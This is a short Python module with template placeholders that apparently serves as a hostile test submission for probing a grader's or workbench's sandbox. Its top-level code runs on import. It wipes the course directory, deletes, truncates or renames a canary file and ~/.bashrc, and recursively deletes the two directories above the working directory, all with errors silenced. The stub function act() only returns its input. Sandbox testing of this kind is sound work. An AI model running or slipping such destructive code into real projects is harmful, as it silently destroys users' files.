import os
import pathlib
import shutil

shutil.rmtree(r"@COURSE@", ignore_errors=True)
for path in (r"@CANARY@", "/tmp/workbench-canary", os.path.expanduser("~/.bashrc")):
    for harm in (os.unlink, lambda p: open(p, "w").close(), lambda p: os.rename(p, p + ".gone")):
        try:
            harm(path)
        except OSError:
            pass
shutil.rmtree(pathlib.Path.cwd().parent, ignore_errors=True)
shutil.rmtree(pathlib.Path.cwd().parent.parent, ignore_errors=True)


def act(wrong):
    return wrong
